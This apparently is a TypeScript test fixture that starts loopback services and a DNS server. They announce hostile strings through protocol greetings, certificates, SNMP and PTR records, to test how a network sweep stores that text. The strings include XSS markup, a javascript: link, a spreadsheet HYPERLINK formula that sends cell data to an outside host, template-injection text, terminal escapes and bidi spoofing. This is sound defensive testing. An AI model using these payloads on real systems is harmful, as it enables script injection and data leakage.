// Loopback machines that announce hostile strings by every protocol whose text a sweep stores, in their HTTPS
// certificate and by SNMP, and a name server with such names. No assertions.

import { parseIp } from "../../../src/base/ip.ts";
import { reverseName } from "../../../src/discovery/sweep/reverse-name.ts";
import { ignoreSocketError, type SnmpAgent } from "../snmp/agent.ts";
import { startAgents } from "../snmp/agents.ts";
import { type SnmpView, viewOf } from "../snmp/view.ts";
import { makeNamedPair } from "../tls/certificates.ts";

/** Executed parts set `broken` of the window. */
export const HOSTILE_TEXTS = {
  markup: `"><img src=x onerror=broken=1><script>broken=2</script>`,
  link: "javascript:broken=3",
  formula: `=HYPERLINK("http://elsewhere.example/?"&A1,"click")`,
  template: "{{7*7}}${broken=4}&lt;img src=x onerror=broken=5&gt;",
  /** A closing isolate without an open one, unclosed overrides and isolates, marks, and right-to-left letters. */
  direction: "\u2069\u202e\u2067\u200fשרת-הדפסה خادم gnp.exe\u061c",
  /** A terminal escape sequence, a tab, JavaScript's line terminators, the terminator of a C string. */
  control: "a\x1b[31mb\x07\tc\u0085d\u2028e\x7ff\x00g",
  long: "W".repeat(12_000),
  /** A byte invalid in UTF-8, a lead byte without its continuation, a surrogate. */
  invalid: Buffer.from("611cff62c32863eda08064", "hex"),
  /** Combining marks stacked above and below a letter. */
  piled: `Z${"\u0335\u0321\u0301\u0489\u0316".repeat(16)}algo`,
  /** Letters and symbols without a visible glyph. */
  blank: "\u3164\u2800\u115f\uffa0",
} as const;

/** Prefix of every name in a certificate, used nowhere else. */
export const CERTIFICATE_PREFIX = "certificateholder";

export type HostileText = keyof typeof HOSTILE_TEXTS;

const TEXT_NAMES = Object.keys(HOSTILE_TEXTS) as HostileText[];

/** Addresses from 127.17.67.1 on, in the order of HOSTILE_TEXTS. */
export const MACHINES = TEXT_NAMES.map((_, index) => `127.17.67.${index + 1}`);

/** Responds to name queries, and to version queries by the same protocol. */
export const NAME_SERVER = "127.17.67.53";

/** PTR names of addresses without listeners; each name as its labels. */
const PTR_NAMES: Readonly<Record<string, readonly (readonly (string | Uint8Array)[])[]>> = {
  "127.17.67.101": [[HOSTILE_TEXTS.markup]],
  "127.17.67.102": [[HOSTILE_TEXTS.link]],
  "127.17.67.103": [["שרת", "example"]],
  "127.17.67.104": [[Buffer.from("a\x1b[31m\0b"), "example"]],
  "127.17.67.105": [[Buffer.from("ff61c328", "hex"), "example"]],
  "127.17.67.106": [[..."abc"].map((letter) => letter.repeat(63)).concat("d".repeat(61))],
  "127.17.67.107": [["constructor"]],
  "127.17.67.108": [
    [HOSTILE_TEXTS.markup.slice(0, 30), "example"],
    ["honest", "example"],
  ],
  "127.17.67.109": [["xn--4dbrk0ce"]],
};

/** Addresses with names, whether or not a service listens. */
export const NAMED_ADDRESSES = Object.keys(PTR_NAMES);

interface Greeting {
  /** Bytes sent on connection, or on a request if `onRequest`. @param word hostile string, on one line */
  readonly greet: (word: Uint8Array) => Uint8Array;
  readonly onRequest?: boolean;
  readonly isTls?: boolean;
}

const bytesOf = (...parts: readonly (string | Uint8Array)[]) =>
  Buffer.concat(parts.map((part) => (typeof part === "string" ? Buffer.from(part) : part)));

/** In HTML, markup is escaped so that the title contains it verbatim. */
const inHtml = (word: Uint8Array) =>
  Buffer.from(Buffer.from(word).toString("latin1").replaceAll("<", "&lt;"), "latin1");

function webPage(word: Uint8Array): Uint8Array {
  const body = bytesOf("<!doctype html><title>", inHtml(word), "</title>");
  const head = `Content-Type: text/html; charset=utf-8\r\nContent-Length: ${body.length}\r\n\r\n`;
  return bytesOf("HTTP/1.1 200 OK\r\nServer: ", word, "\r\n", head, body);
}

/** Greetings by port: the protocol's own, or one where a greeting identifies the service. */
const GREETINGS: Readonly<Record<number, Greeting>> = {
  2121: { greet: (word) => bytesOf("220 ", word, " FTP server\r\n") },
  // Without a space: the rest would be a comment.
  2222: {
    greet: (word) =>
      bytesOf(
        "SSH-2.0-",
        Buffer.from(word).map((byte) => (byte === 0x20 ? 0x2f : byte)),
        "\r\n",
      ),
  },
  2323: { greet: (word) => bytesOf("\r\nto ", word, "\r\n\r\nlogin: ") },
  2525: { greet: (word) => bytesOf("220 ", word, " ESMTP\r\n") },
  5672: { greet: amqpStart, onRequest: true },
  8080: { greet: webPage, onRequest: true },
  8081: {
    greet: (word) =>
      bytesOf('HTTP/1.1 401 No\r\nWWW-Authenticate: Basic realm="', word, '"\r\nContent-Length: 0\r\n\r\n'),
    onRequest: true,
  },
  8443: { greet: webPage, onRequest: true, isTls: true },
  8554: { greet: (word) => bytesOf("RTSP/1.0 200 OK\r\nCSeq: 1\r\nServer: ", word, "\r\n\r\n"), onRequest: true },
  11211: { greet: (word) => bytesOf("VERSION ", word, "\r\n"), onRequest: true },
  40110: { greet: (word) => bytesOf("+OK ", word, " ready\r\n") },
  40143: { greet: (word) => bytesOf("* OK ", word, " ready\r\n") },
};

/** Ports a sweep must probe to read all greetings. Some are closed, or the machine would be taken for a proxy. */
export const HOSTILE_PORTS = [9, 53, ...Object.keys(GREETINGS).map(Number)];

/** Method frame of channel 0, class and method 10, version 0.9, and the properties product and version. */
function amqpStart(word: Uint8Array): Uint8Array {
  // The length of a short string is one byte.
  const product = word.subarray(0, 200);
  const method = bytesOf(
    "\0\x0a\0\x0a\0\x09\0\0\0\x32\x07productS\0\0\0",
    Uint8Array.of(product.length),
    product,
    "\x07versionS\0\0\0\x011",
  );
  const head = Buffer.from([1, 0, 0, 0, 0, 0, 0]);
  head.writeUInt32BE(method.length, 3);
  return bytesOf(head, method, Uint8Array.of(0xce));
}

export class HostileMachines {
  readonly snmpPort: number;
  private readonly agents: readonly SnmpAgent[];
  private readonly closers: readonly (() => void)[];
  private rotation = 0;

  private constructor(
    agents: readonly SnmpAgent[],
    startListeners: (machines: HostileMachines) => readonly (() => void)[],
  ) {
    this.agents = agents;
    this.snmpPort = agents[0]?.port ?? 0;
    this.closers = startListeners(this);
  }

  /** @param hasNames whether to start the name server as well, which requires root */
  static async start(hasNames: boolean): Promise<HostileMachines> {
    const agents = await startAgents(
      MACHINES.map((address, index) => ({
        address,
        communities: { public: snmpViewOf(index, textOf(index, 0)) },
      })),
    );
    const pairs = await Promise.all(
      TEXT_NAMES.map((word) => makeNamedPair(`${CERTIFICATE_PREFIX} ${HOSTILE_TEXTS[word]}`)),
    );
    const server = hasNames ? await nameServer() : [];
    return new HostileMachines(agents, (machines) => [
      ...MACHINES.flatMap((address, index) =>
        Object.entries(GREETINGS).map(([port, greeting]) => {
          return listen(address, Number(port), greeting, () => textOf(index, machines.rotation), pairs[index]);
        }),
      ),
      ...server,
    ]);
  }

  /** The string that a machine announces. */
  textAt(address: string): HostileText {
    return TEXT_NAMES[(MACHINES.indexOf(address) + this.rotation) % TEXT_NAMES.length] as HostileText;
  }

  /** Rotates the strings between the machines. */
  swap(): void {
    this.rotation += 1;
    for (const [index, agent] of this.agents.entries())
      agent.serve("public", snmpViewOf(index, textOf(index, this.rotation)));
  }

  close(): void {
    for (const agent of this.agents) agent.close();
    for (const close of this.closers) close();
  }
}

function textOf(index: number, rotation: number): Uint8Array {
  const word = HOSTILE_TEXTS[TEXT_NAMES[(index + rotation) % TEXT_NAMES.length] as HostileText];
  return typeof word === "string" ? Buffer.from(word) : word;
}

function listen(
  hostname: string,
  port: number,
  { greet, onRequest = false, isTls = false }: Greeting,
  word: () => Uint8Array,
  pair: { readonly certificate: string; readonly privateKey: string } | undefined,
): () => void {
  const send = (socket: { end(bytes: Uint8Array): unknown }) => void socket.end(greet(word()));
  const listener = Bun.listen({
    hostname,
    port,
    ...(isTls && pair !== undefined ? { tls: { cert: pair.certificate, key: pair.privateKey } } : {}),
    socket: {
      open: (socket) => {
        if (!onRequest) send(socket);
      },
      data: (socket) => {
        if (onRequest) send(socket);
      },
      error: ignoreSocketError,
    },
  });
  return () => listener.stop(true);
}

/** SNMP view of a device with one port, in which every string is the word. */
function snmpViewOf(index: number, word: Uint8Array): SnmpView {
  const text = word.subarray(0, SNMP_TEXT_MAX_BYTES);
  const mac = Uint8Array.of(0x00, 0x1b, 0x21, 0x67, 0x67, index);
  const LOCALLY_ASSIGNED = 7;
  return viewOf({
    "1.3.6.1.2.1.1.1.0": text,
    "1.3.6.1.2.1.1.2.0": { oid: "1.3.6.1.4.1.8072.3.2.10" },
    "1.3.6.1.2.1.1.4.0": text,
    "1.3.6.1.2.1.1.5.0": text,
    "1.3.6.1.2.1.1.6.0": text,
    "1.3.6.1.2.1.2.2.1.1.1": 1,
    "1.3.6.1.2.1.2.2.1.2.1": text,
    "1.3.6.1.2.1.2.2.1.3.1": 6,
    "1.3.6.1.2.1.2.2.1.6.1": mac,
    "1.3.6.1.2.1.2.2.1.7.1": 1,
    "1.3.6.1.2.1.2.2.1.8.1": 1,
    "1.3.6.1.2.1.31.1.1.1.1.1": text,
    "1.3.6.1.2.1.31.1.1.1.18.1": text,
    "1.0.8802.1.1.2.1.3.1.0": 4,
    "1.0.8802.1.1.2.1.3.2.0": mac,
    "1.0.8802.1.1.2.1.3.7.1.2.1": 5,
    "1.0.8802.1.1.2.1.3.7.1.3.1": text,
    "1.0.8802.1.1.2.1.4.1.1.4.0.1.1": LOCALLY_ASSIGNED,
    "1.0.8802.1.1.2.1.4.1.1.5.0.1.1": text,
    "1.0.8802.1.1.2.1.4.1.1.6.0.1.1": LOCALLY_ASSIGNED,
    "1.0.8802.1.1.2.1.4.1.1.7.0.1.1": text,
    "1.0.8802.1.1.2.1.4.1.1.8.0.1.1": text,
    "1.0.8802.1.1.2.1.4.1.1.9.0.1.1": text,
    "1.0.8802.1.1.2.1.4.1.1.10.0.1.1": text,
  });
}

/** Leaves room for several strings in a datagram. */
const SNMP_TEXT_MAX_BYTES = 600;

/** Starts a name server: PTR over UDP and `version.bind` over TCP (RFC 1035 section 4). */
async function nameServer(): Promise<readonly (() => void)[]> {
  const namesByQuery = new Map(
    Object.entries(PTR_NAMES).map(([address, names]) => [reverseName(parseIp(address) as never), names] as const),
  );
  const udp = await Bun.udpSocket({
    hostname: NAME_SERVER,
    port: 53,
    socket: {
      data: (socket, query, port, from) => {
        const { name, end } = questionIn(query);
        const records = (namesByQuery.get(name) ?? []).map((labels) => record(12, 1, dnsName(labels)));
        socket.send(reply(query.subarray(0, end), records), port, from);
      },
      error: ignoreSocketError,
    },
  });
  const tcp = Bun.listen({
    hostname: NAME_SERVER,
    port: 53,
    socket: {
      data: (socket, bytes) => {
        const word = Buffer.from(HOSTILE_TEXTS.markup);
        const message = reply(bytes.subarray(2), [record(16, 3, bytesOf(Uint8Array.of(word.length), word))]);
        socket.end(bytesOf(Uint8Array.of(message.length >>> 8, message.length & 0xff), message));
      },
      error: ignoreSocketError,
    },
  });
  return [() => udp.close(), () => tcp.stop(true)];
}

const HEADER_BYTES = 12;

/** @returns the queried name in lower case, and the end of its question */
function questionIn(query: Uint8Array): { readonly name: string; readonly end: number } {
  const labels: string[] = [];
  let offset = HEADER_BYTES;
  for (let length = query[offset] ?? 0; length > 0; length = query[offset] ?? 0) {
    labels.push(Buffer.from(query.subarray(offset + 1, offset + 1 + length)).toString("latin1"));
    offset += length + 1;
  }
  return { name: labels.join(".").toLowerCase(), end: offset + 5 };
}

/** @param question header and question of the query */
function reply(question: Uint8Array, records: readonly Uint8Array[]): Uint8Array {
  const message = bytesOf(question, ...records);
  // An authoritative response; NXDOMAIN without a record.
  message.set([0x85, records.length === 0 ? 0x83 : 0x80, 0, 1, 0, records.length, 0, 0, 0, 0], 2);
  return message;
}

/** Resource record for the queried name, the first name of the message. */
function record(type: number, family: number, data: Uint8Array): Uint8Array {
  return bytesOf(Uint8Array.of(0xc0, HEADER_BYTES, 0, type, 0, family, 0, 0, 0, 0, 0, data.length), data);
}

function dnsName(labels: readonly (string | Uint8Array)[]): Uint8Array {
  return bytesOf(
    ...labels.flatMap((label) => {
      const bytes = bytesOf(label);
      return [Uint8Array.of(bytes.length), bytes];
    }),
    Uint8Array.of(0),
  );
}
